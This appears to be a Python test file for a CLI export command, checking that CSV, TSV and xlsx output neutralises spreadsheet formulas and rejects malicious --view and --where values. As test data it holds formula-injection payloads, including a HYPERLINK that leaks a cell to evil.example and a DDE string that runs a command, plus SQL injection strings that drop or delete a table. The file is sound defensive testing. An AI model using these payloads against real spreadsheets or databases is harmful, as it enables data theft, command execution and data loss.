"""``plantables export``: formulas neutralised (OWASP), --raw, --view/--where/--latest, a usable xlsx."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
import sqlalchemy as sa
from click.testing import CliRunner

from plantables.cli import cli
from plantables.schema import db
from plantables.schema.loader import FileInfo, load_document
from tests.integration.test_loader import make_plan

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-2+3",
            "@SUM(1+1)", "\t=1+1", "\r=1+1"]
COLUMNS = ("title", "update_text", "measures")  # 3 actions x 3 columns hold the 7 formulas


@pytest.fixture
def hostile(db_url):
    """A loaded plan whose action titles are spreadsheet formulas (as a hostile plan's text would be)."""
    engine = db.open_engine(db_url)
    load_document(engine, make_plan(), FileInfo("/plans/acme.txt", "a" * 64, 10, 1.0))
    with engine.begin() as conn:
        ids = conn.execute(sa.text("SELECT id FROM actions ORDER BY id")).scalars().all()
        slots = [(i, column) for column in COLUMNS for i in ids]
        for (i, column), formula in zip(slots, FORMULAS):
            conn.execute(sa.text(f"UPDATE actions SET {column} = :t WHERE id = :i"), {"t": formula, "i": i})
    engine.dispose()
    return db_url


def export(*args):
    return CliRunner().invoke(cli, ["export", *map(str, args)])


def titles(rows) -> set[str]:
    """The values of the formula columns (the plan's other cells in them are ordinary text)."""
    return {r[c] for r in rows for c in COLUMNS if r[c] and r[c].lstrip("'")[:1] in "=+-@\t\r"}


def test_csv_cells_that_would_run_are_prefixed(hostile):
    out = export("--db", hostile, "--where", "action_ref IS NOT NULL OR title IS NOT NULL")
    assert out.exit_code == 0, out.output
    assert titles(csv.DictReader(io.StringIO(out.output))) == {"'" + f for f in FORMULAS}
    raw = export("--db", hostile, "--raw")
    assert titles(csv.DictReader(io.StringIO(raw.output))) == set(FORMULAS)
    tsv = export("--db", hostile, "--format", "tsv")
    assert {"'" + f for f in FORMULAS} == titles(csv.DictReader(io.StringIO(tsv.output), delimiter="\t"))


def test_xlsx_cells_are_text_never_formulas(hostile, tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "o.xlsx"
    out = export("--db", hostile, "--format", "xlsx", "-o", path)
    assert out.exit_code == 0 and out.output == "3 rows written to " + str(path) + "\n"
    ws = load_workbook(path).active
    header = [c.value for c in ws[1]]
    cols = [header.index(c) + 1 for c in COLUMNS]
    cells = [ws.cell(r, c) for r in range(2, ws.max_row + 1) for c in cols
             if str(ws.cell(r, c).value or "")[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert {c.value for c in cells} == set(FORMULAS)  # the text unchanged …
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)  # … as text, shown with Excel's quote
    raw = tmp_path / "raw.xlsx"
    export("--db", hostile, "--format", "xlsx", "-o", raw, "--raw")
    ws = load_workbook(raw).active
    assert {ws.cell(r, c).data_type for r in range(2, 5) for c in cols if str(ws.cell(r, c).value)[:1] == "="} == {"f"}


def test_xlsx_is_ready_to_work_with(tmp_path, db_url):
    from openpyxl import load_workbook

    engine = db.open_engine(db_url)
    load_document(engine, make_plan(), FileInfo("/plans/acme.txt", "a" * 64, 10, 1.0))
    engine.dispose()
    path = tmp_path / "o.xlsx"
    assert export("--db", db_url, "--format", "xlsx", "-o", path).exit_code == 0
    ws = load_workbook(path).active
    header = [c.value for c in ws[1]]
    assert all(c.font.b for c in ws[1]) and ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:{ws.cell(1, len(header)).column_letter}{ws.max_row}"
    assert ws.column_dimensions["B"].width >= len("source_file")
    row = {h: ws.cell(r, i + 1) for r in range(2, ws.max_row + 1) for i, h in enumerate(header)
           if ws.cell(r, header.index("action_ref") + 1).value == "1.1.1"}
    assert row["due_month"].value == dt.datetime(2023, 11, 1) and row["due_month"].number_format == "mmm yyyy"
    assert row["action_ref"].value == "1.1.1" and row["action_ref"].number_format == "@"


def test_view_where_and_latest(db_url):
    engine = db.open_engine(db_url)
    load_document(engine, make_plan("/plans/acme_2023.txt"), FileInfo("/plans/acme_2023.txt", "a" * 64, 10, 1.0))
    load_document(engine, make_plan("/plans/acme_2024.txt", status="Delayed"),
                  FileInfo("/plans/acme_2024.txt", "b" * 64, 10, 2.0))
    engine.dispose()
    every = export("--db", db_url, "--format", "jsonl")
    assert len(every.output.splitlines()) == 6
    latest = export("--db", db_url, "--format", "jsonl", "--latest")
    assert latest.exit_code == 0, latest.output
    rows = [json.loads(line) for line in latest.output.splitlines()]
    assert len(rows) == 3 and {r["is_latest"] for r in rows} == {1}
    where = export("--db", db_url, "--format", "jsonl", "--where", "action_ref = '1.1.1'", "--latest")
    assert [json.loads(line)["action_ref"] for line in where.output.splitlines()] == ["1.1.1"]
    leads = export("--db", db_url, "--view", "lead_directory", "--format", "csv")
    assert leads.exit_code == 0 and leads.output.splitlines()[0].startswith(("organisation", "lead", "alias", "id"))
    for bad in (["--view", "actions; DROP TABLE actions"], ["--where", "1=1; DELETE FROM actions"],
                ["--view", "no_such_view"]):
        out = export("--db", db_url, *bad)
        assert out.exit_code == 1 and out.output.count("\n") == 1 and out.output.startswith("Error: "), out.output
    assert len(export("--db", db_url, "--format", "jsonl").output.splitlines()) == 6
